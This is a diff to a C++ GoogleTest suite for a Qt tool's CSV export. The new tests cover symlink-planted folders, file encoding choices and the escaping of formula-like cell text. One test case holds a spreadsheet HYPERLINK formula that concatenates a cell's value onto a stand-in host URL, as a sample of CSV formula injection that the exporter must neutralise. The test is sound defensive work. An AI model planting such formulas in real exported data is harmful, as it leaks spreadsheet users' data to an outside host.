@@ -15,7 +15,10 @@
 #include <QDir>
 #include <QFile>
 #include <QFileInfo>
+#include <QProcess>
+#include <QRegularExpression>
 #include <QPushButton>
+#include <QStandardPaths>
 #include <QTableView>
 #include <QTemporaryDir>
 #include <gtest/gtest.h>
@@ -37,6 +40,8 @@ protected:
         qputenv("TMPDIR", tmp.path().toUtf8());
         session.settings.LAST_ALIAS = "DEMO";
         session.settings.U_LogOn = "DEMO";
+        // The byte checks below read CP932; the other choices have a test of their own.
+        session.settings.CSV_ENCODING = "CP932";
         session.state.LogonUser = "SYS";
         dm.connectWithCurrentValues();
         dm.AdjustColumnWidths();
@@ -246,26 +251,92 @@ TEST_F(CsvExportTest, APlantedLinkIsReplacedNotFollowed)
     EXPECT_TRUE(bytes(exportPath("DEPT")).contains("DEPTNO"));
 }
 
-TEST_F(CsvExportTest, AFolderThatIsNotTheUsersOwnIsRefused)
+TEST_F(CsvExportTest, AFolderThatIsNotTheUsersOwnIsPassedOverForAPrivateOne)
 {
     load("DEPT");
     QTemporaryDir elsewhere;
     // Someone put a link to another folder where our folder belongs.
     ASSERT_TRUE(QFile::link(elsewhere.path(), folder()));
+    messages.answers.push_back(MessageResult::Yes);
     runGuarded([this] { main.BitBtn1Click(); });
-    ASSERT_EQ(messages.shown.size(), 1);
-    EXPECT_EQ(messages.shown[0].kind, MessageKind::Application);
-    EXPECT_TRUE(messages.shown[0].text.contains(folder())) << messages.shown[0].text.toStdString();
+    ASSERT_EQ(messages.shown.size(), 1);   // only the question
+    EXPECT_EQ(messages.shown[0].kind, MessageKind::Confirmation);
     EXPECT_TRUE(QDir(elsewhere.path()).entryList(QDir::Files).isEmpty());
+    ASSERT_EQ(opened.size(), 1);
+    const QFileInfo written(opened[0]);
+    EXPECT_TRUE(written.fileName() == QStringLiteral("ＤＢ仕様書（DEPT）.CSV"));
+    EXPECT_TRUE(written.path().startsWith(folder() + "-")) << written.path().toStdString();
+    struct stat st {};
+    ASSERT_EQ(lstat(QFile::encodeName(written.path()).constData(), &st), 0);
+    EXPECT_TRUE(S_ISDIR(st.st_mode));
+    EXPECT_EQ(st.st_mode & 0777, 0700u);
+    EXPECT_TRUE(bytes(opened[0]).contains("DEPTNO"));
+    // The same private folder serves the next export of the run.
+    main.BitBtn1Click();
+    EXPECT_EQ(QFileInfo(opened.last()).path(), written.path());
 
     // A folder of our own with loose permissions is tightened and used.
     QFile::remove(folder());
     ASSERT_EQ(mkdir(QFile::encodeName(folder()).constData(), 0777), 0);
     chmod(QFile::encodeName(folder()).constData(), 0777);
     main.BitBtn1Click();
-    struct stat st {};
     ASSERT_EQ(stat(QFile::encodeName(folder()).constData(), &st), 0);
     EXPECT_EQ(st.st_mode & 0777, 0700u);
+    EXPECT_TRUE(QFileInfo(exportPath("DEPT")).isFile());
+}
+
+TEST_F(CsvExportTest, EncodingFollowsTheStoredChoice)
+{
+    load("DEPT");
+    struct Case { const char* setting; bool bom; } cases[] = {
+        {"", true},   // automatic: Unicode, which the Linux spreadsheets open by double-click
+        {"UTF-8", true},
+        {"CP932", false},
+        {"other", true},
+    };
+    for (const Case& c : cases) {
+        session.settings.CSV_ENCODING = c.setting;
+        main.BitBtn1Click();
+        const QByteArray raw = bytes(exportPath("DEPT"));
+        EXPECT_EQ(raw.startsWith("\xEF\xBB\xBF"), c.bom) << c.setting;
+        const QString text = c.bom ? QString::fromUtf8(raw.mid(3)) : cp932::decode(raw);
+        EXPECT_TRUE(text.contains("\"2\",\"DNAME\",\"部門名\",")) << c.setting;
+    }
+}
+
+TEST_F(CsvExportTest, FormulaLikeTextsAreWrittenAsText)
+{
+    const struct { QString item, written; } cases[] = {
+        {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")"},
+        {"+1", "'+1"}, {"-A1", "'-A1"}, {"@SUM(A1)", "'@SUM(A1)"},
+        {"-2", "-2"}, {"-1.5", "-1.5"}, {"部門=名", "部門=名"}, {"", ""},
+    };
+    for (const auto& c : cases)
+        EXPECT_EQ(output::csvCellText(c.item), c.written) << c.item.toStdString();
+
+    const QString link = cases[0].item;
+    setComment("DEPT", "DNAME", link);
+    load("DEPT");
+    session.settings.CSV_ENCODING = "UTF-8";
+    main.BitBtn1Click();
+    const QString path = exportPath("DEPT");
+    EXPECT_TRUE(QString::fromUtf8(bytes(path).mid(3)).contains("\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")\","));
+
+    // gnumeric takes a leading '=' as a formula unless the apostrophe marks a text.
+    const QString gnumeric = QStandardPaths::findExecutable("ssconvert");
+    if (gnumeric.isEmpty())
+        GTEST_SKIP() << "ssconvert (gnumeric) is not installed";
+    QProcess convert;
+    convert.setProcessChannelMode(QProcess::MergedChannels);
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.insert("HOME", tmp.path());
+    convert.setProcessEnvironment(env);
+    const QString values = tmp.filePath("values.txt");
+    convert.start(gnumeric, {"--export-type=Gnumeric_stf:stf_csv", path, values});
+    ASSERT_TRUE(convert.waitForFinished(60000));
+    const QString shown = QString::fromUtf8(bytes(values));
+    EXPECT_TRUE(shown.contains("=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")")) << shown.toStdString();
+    EXPECT_FALSE(shown.contains(QRegularExpression(",click(,|\\s|$)"))) << shown.toStdString();
 }
 
 TEST_F(CsvExportTest, AFileThatCannotBeCreatedReportsItsPathAndEndsCleanly)
